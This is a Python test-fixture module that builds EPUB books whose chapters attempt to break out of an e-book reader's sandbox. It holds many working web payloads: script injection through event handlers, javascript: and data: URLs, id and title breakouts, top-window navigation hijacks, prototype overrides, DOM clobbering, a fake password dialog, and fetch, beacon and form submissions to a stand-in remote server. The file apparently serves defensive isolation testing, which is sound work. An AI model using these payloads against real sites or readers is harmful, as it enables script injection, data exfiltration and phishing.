# SPDX-License-Identifier: BSD-3-Clause
"""Books that attack the page: subjects with several attempts, each of which is a chapter.

`REMOTE` is the address of a server that must not receive anything.  Scripts leave marks in their own window and in its
ancestors.
"""
import random
from urllib.parse import urlsplit

from . import hostile_documents, hostile_scripts
from .books import LATIN, Words, document, epub, png
from .hostile_documents import ALL, REMOTE, TEXT, Attempt, script

MESSAGES = {
    "posts-to-the-page": script("""for (const one of [parent, top]) { one.postMessage({lectern: "", message: '{"type":"tap"}'}, '*');
one.lectern?.receive('{"type":"reload"}') }"""),
    "posts-to-handlers": script("""webkit?.messageHandlers.lectern.postMessage('{"type":"tap"}')""")
    + script("""chrome?.webview.postMessage('{"type":"tap"}')""") + script("""lecternHost.postMessage('{"type":"tap"}')"""),
    "sends-as-an-image": """<img src="../~lectern/send?token=&amp;message=%7B%22type%22%3A%22link%22%2C%22href%22%3A%22http%3A%2F%2Fevil%2F%22%7D" alt=""/>
<img src="../~lectern/send?message=%7B%22type%22%3A%22viewport%22%2C%22width%22%3A9%2C%22height%22%3A9%7D" alt=""/>""",
    "frames-the-page": '<iframe src="../~lectern/index.html?channel=http"></iframe><object data="../~lectern/index.html"></object>',
}
PROTOTYPES = {
    "redefines-prototypes": script("""for (const one of [self, parent, top]) { one.Array.prototype.map = () => [];
one.JSON.parse = () => ({}); one.EventTarget.prototype.addEventListener = () => {} }"""),
    "names-that-shadow": """<form id="body"><input name="documentElement"/><input name="querySelectorAll"/></form>
<img id="documentElement" name="body" alt=""/><a id="lectern" name="getSelection">a</a><form name="adoptedStyleSheets"></form>
<input id="fonts" name="contentDocument"/>""",
    "attributes-of-the-page": """<p data-lectern-layer="" data-lectern-flow="scroll" data-lectern-tall="static overflow">Words.</p>
<div class="lectern" data-group="highlights"></div><style>[data-lectern-layer] { display: none !important; opacity: 0 !important }
:root { --lectern-inline: 1px !important; writing-mode: vertical-rl !important }</style>""",
}
NAVIGATION = {
    "top-by-script": script(f"top.location = '{REMOTE}top'; parent.location.href = '{REMOTE}parent'; location = '{REMOTE}self'"),
    "link-to-top": f'<p><a class="click" target="_top" href="{REMOTE}link-top">top</a> '
                   f'<a class="click" target="_parent" href="{REMOTE}link-parent">parent</a></p>',
    "link-by-script": """<p><a class="click" href="javascript:top.hacked=true">a</a> <a class="click" href="&#x6a;ava
script:top.hacked=true">b</a> <a class="click" href=" jAvAsCrIpT:parent.hacked=true" target="_top">c</a>
<a class="click" href="data:text/html,%3Cscript%3Etop.hacked=true%3C/script%3E" target="_top">d</a></p>
<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="20"><a class="click" xlink:href="javascript:top.hacked=true"><text y="15">svg</text></a></svg>""",
    "refresh": f"""<meta http-equiv="refresh" content="0; url={REMOTE}refresh"/><meta http-equiv="&#114;efresh" content="0;{REMOTE}again"/>
<noscript><meta http-equiv="refresh" content="0; url={REMOTE}noscript"/></noscript>""",
}
FRAMES = {
    "frame-elsewhere": f"""<iframe src="{REMOTE}frame"></iframe><iframe src="javascript:top.hacked=true"></iframe>
<iframe srcdoc="&lt;script&gt;top.hacked=true&lt;/script&gt;&lt;img src=x onerror=&quot;top.hacked=true&quot;&gt;"></iframe>
<iframe src="data:text/html,%3Cscript%3Etop.hacked=true%3C/script%3E"></iframe><embed src="{REMOTE}embed"/>
<object data="{REMOTE}object" type="text/html"></object><object data="data:text/html,%3Cscript%3Etop.hacked=true%3C/script%3E"></object>""",
}
WINDOWS = {
    "opens-windows": script(f"open('{REMOTE}open'); open('about:blank').document.write('<script>opener.top.hacked=true</script>')"),
    "link-to-a-new-window": f'<p><a class="click" target="_blank" href="{REMOTE}blank">blank</a> <a class="click" '
                            f'target="other" rel="opener" href="{REMOTE}named">named</a> '
                            f'<a class="click" download="evil.exe" href="data:application/octet-stream,evil">download</a></p>',
    "ping": f'<p><a class="click" href="#here" ping="{REMOTE}ping" id="here">ping</a></p>',
    "dialogs": script("alert(1); confirm(1); prompt(1); print()") + '<dialog open="open"><p>Give me your password.</p></dialog>',
}
REMOTES = {
    "images": f"""<img src="{REMOTE}img.png" alt=""/><img srcset="{REMOTE}srcset.png 1x, {REMOTE}srcset2.png 2x" alt=""/>
<picture><source srcset="{REMOTE}picture.png"/><img src="{REMOTE}picture2.png" alt=""/></picture><input type="image" src="{REMOTE}input.png"/>
<img src="//127.0.0.1:9/~remote/scheme.png" alt=""/><img loading="lazy" src="{REMOTE}lazy.png" alt=""/>""",
    "vector-images": f"""<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"><image href="{REMOTE}image.png" width="9" height="9"/>
<image xlink:href="{REMOTE}image2.png" width="9" height="9"/><use href="{REMOTE}use.svg#a"/><filter id="f"><feImage href="{REMOTE}fe.png"/></filter>
<rect filter="url(#f)" width="9" height="9" fill="url({REMOTE}fill.svg#a)"/></svg>""",
    "media": f"""<video src="{REMOTE}video.mp4" poster="{REMOTE}poster.png" autoplay="autoplay"></video><audio src="{REMOTE}audio.mp3" preload="auto"></audio>
<video autoplay="autoplay"><source src="{REMOTE}source.mp4"/><track default="default" src="{REMOTE}track.vtt"/></video>""",
    "hints": f"""<link rel="preload" as="image" href="{REMOTE}preload.png"/><link rel="prefetch" href="{REMOTE}prefetch"/>
<link rel="preconnect" href="{REMOTE}"/><link rel="dns-prefetch" href="{REMOTE}"/><link rel="modulepreload" href="{REMOTE}module.js"/>
<link rel="prerender" href="{REMOTE}prerender"/><link rel="&#112;reconnect" href="{REMOTE}"/><link rel="icon" href="{REMOTE}icon.png"/>
<link rel="manifest" href="{REMOTE}manifest"/>""",
}
STYLES = {
    "style-sheets": f"""<link rel="stylesheet" href="{REMOTE}sheet.css"/><style>@import "{REMOTE}import.css"; @import url({REMOTE}import2.css);
@font-face {{ font-family: remote; src: url({REMOTE}font.woff2) }} p {{ font-family: remote }}</style>""",
    "images-of-style-sheets": f"""<style>p {{ background: url({REMOTE}background.png); list-style: url({REMOTE}list.png) inside;
display: list-item; cursor: url({REMOTE}cursor.cur), auto; border-image: url({REMOTE}border.png) 3; mask: url({REMOTE}mask.png) }}
p::before {{ content: url({REMOTE}content.png) }} p::after {{ content: image-set(url({REMOTE}set.png) 1x) }}
div {{ float: left; width: 9px; height: 9px; shape-outside: url({REMOTE}shape.png); filter: url({REMOTE}filter.svg#a) }}</style><div></div>""",
    "covers-everything": """<style>html, body { position: fixed !important; inset: 0 !important; z-index: 2147483647 !important; width: 9999px !important;
transform: scale(20) !important; columns: 1px !important } p { user-select: none !important }</style>""",
    "hides-all-text": "<style>html { overflow: scroll !important; height: 1px !important; margin: 900px !important }</style>",
}
IDS = {
    "ends-a-script-in-an-id": """<p id="&lt;/script&gt;&lt;script&gt;top.hacked=true&lt;/script&gt;" class="picked">Some words with an id.</p>""",
    "quotes-in-an-id": """<p id="&quot;]&#39;);top.hacked=true;//" class="picked">Some words with an id.</p>""",
    "markup-in-titles": """<title>&lt;/title&gt;&lt;img src=x onerror=top.hacked=true&gt;</title>""",
    "text-that-is-markup": """<p class="picked">&lt;img src=x onerror="top.hacked=true"&gt; &lt;script&gt;top.hacked=true&lt;/script&gt;</p>""",
}
FORMS = {
    "submits": f"""<form class="submit" action="{REMOTE}form" method="post" target="_top"><input name="a" value="b"/><button class="click">send</button></form>
<form class="submit" action="{REMOTE}form" method="get"><input class="click" type="submit" formaction="{REMOTE}formaction" formtarget="_blank"/></form>
<button class="click" form="away" formaction="javascript:top.hacked=true">go</button><form id="away" action="javascript:top.hacked=true"></form>""",
    "takes-the-focus": """<input autofocus="autofocus" onfocus="top.hacked=true"/><details open="open" ontoggle="top.hacked=true"><summary>s</summary></details>
<form class="submit" action="../~lectern/send"><input name="message" value="{}"/></form>""",
}
ADDRESSES = {
    "base": f'<base href="{REMOTE}base/" target="_top"/><img src="relative.png" alt=""/><a class="click" href="relative.xhtml">a</a>',
    "import-map": f"""<script type="importmap">{{"imports": {{"./layout/frame.js": "{REMOTE}frame.js", "../~lectern/tools/load.js": "{REMOTE}load.js"}}}}</script>
<script type="module">import "{REMOTE}module.js"; top.hacked = true</script><script src="{REMOTE}script.js"></script>""",
    "speculation-rules": f"""<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["{REMOTE}speculated"]}}]}}</script>""",
}
WORKERS = {
    "service-worker": script("navigator.serviceWorker.register('worker.js')"),
    "worker": script("new Worker('worker.js'); new SharedWorker('worker.js')"),
    "storage": script("localStorage.hacked = 1; sessionStorage.hacked = 1; document.cookie = 'hacked=1'; indexedDB.open('hacked')"),
    "network": script(f"fetch('{REMOTE}fetch'); navigator.sendBeacon('{REMOTE}beacon'); new WebSocket('ws://127.0.0.1:9/'); "
                      f"new EventSource('{REMOTE}events'); new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:9'}}]}})"),
}
HANDLERS = {
    "attributes": """<img src="nothing.png" alt="" onerror="top.hacked=true"/><p onclick="top.hacked=true" class="click">p</p>
<video onloadstart="top.hacked=true"><source onerror="top.hacked=true" src="x"/></video><input onfocus="top.hacked=true"/>""",
    "vectors": """<svg onload="top.hacked=true" width="9" height="9"><script>top.hacked=true</script><a><animate attributeName="href"
values="javascript:top.hacked=true" begin="0s" onbegin="top.hacked=true"/><text>t</text></a><set attributeName="onload" to="top.hacked=true"/>
<foreignObject width="9" height="9"><iframe srcdoc="&lt;script&gt;top.hacked=true&lt;/script&gt;"></iframe></foreignObject></svg>""",
    "math": '<math><maction actiontype="statusline#http://x" href="javascript:top.hacked=true" class="click"><mi>x</mi></maction></math>',
    "animation-events": """<style>@keyframes k { to { opacity: 0.9 } } p { animation: k 1s }</style>
<p onanimationstart="top.hacked=true" ontransitionend="top.hacked=true">p</p><marquee onstart="top.hacked=true">m</marquee>""",
}
IN_THE_HEAD = ("refresh", "hints", "style-sheets", "base", "import-map", "markup-in-titles")
#: The attempts that succeed without countermeasures.
STOPPED = """opens-windows redefines-prototypes frame-elsewhere dialogs images media style-sheets images-of-style-sheets takes-the-focus
import-map service-worker worker storage network attributes vectors animation-events""".split()
#: Firefox connects to the server of a link under the mouse.
POINTED = ("link-to-top", "link-to-a-new-window", "base")
#: The attempts that are tested individually, by subject.  The chapter of an attempt has its markup in the body.
SUBJECTS = {"messages": MESSAGES, "prototypes": PROTOTYPES, "navigation": NAVIGATION, "frames": FRAMES, "windows": WINDOWS, "remotes": REMOTES,
            "styles": STYLES, "ids": IDS, "forms": FORMS, "addresses": ADDRESSES, "workers": WORKERS, "handlers": HANDLERS}
SUBJECTS = {subject: {name: Attempt(markup, in_head=name in IN_THE_HEAD, engines=ALL if name in STOPPED else "",
                                         left="firefox" if name in POINTED else "") for name, markup in found.items()}
            for subject, found in SUBJECTS.items()} | hostile_documents.SUBJECTS | {"scripts": hostile_scripts.SCRIPTED}
ATTEMPTS = {name: attempt for attempts in SUBJECTS.values() for name, attempt in attempts.items()}
FILES = [("worker.js", "self.hacked = true"), ("small.png", png(40, 40))]
DULL = document("<p>Nothing happens here.</p>")


def parts(name, remote):
    """The chapter of an attempt and its other files, for `epub`.  Requests to the server contain the name of the
    attempt."""
    attempt, place = ATTEMPTS[name], urlsplit(remote).netloc

    def filled(text, encoding="utf-8"):
        text = text.replace(urlsplit(REMOTE).netloc + "/~remote/", f"{place}/~remote/{name}/").replace(urlsplit(REMOTE).netloc, place)
        return text.replace("NAME", name).replace("{text}", TEXT).encode(encoding)
    text = attempt.document or document(f"<p>{TEXT}</p>{attempt.markup}" + Words(LATIN, random.Random(name).randint(1, 99)).paragraphs(4),
                                        name, head=attempt.markup if attempt.in_head else "")
    return [(f"{name}.xhtml", filled(text, attempt.encoding), attempt.kind),
            *((filled(path).decode(), filled(data, *encoding), kind) for path, kind, data, *encoding in attempt.files)]


def attempts(path, names, remote=REMOTE):
    """A harmless chapter precedes each attempt, because the page preloads the next chapter."""
    made = {name: parts(name, remote) for name in names}
    chapters = [one for number, (chapter, *_) in enumerate(made.values()) for one in ((f"dull-{number}.xhtml", DULL), chapter)]
    chapters = [("first.xhtml", DULL), *chapters, ("last.xhtml", DULL)]
    return epub(path, "<script>top.hacked=true</script>", "en", chapters, [file for _, *files in made.values() for file in files] + FILES)
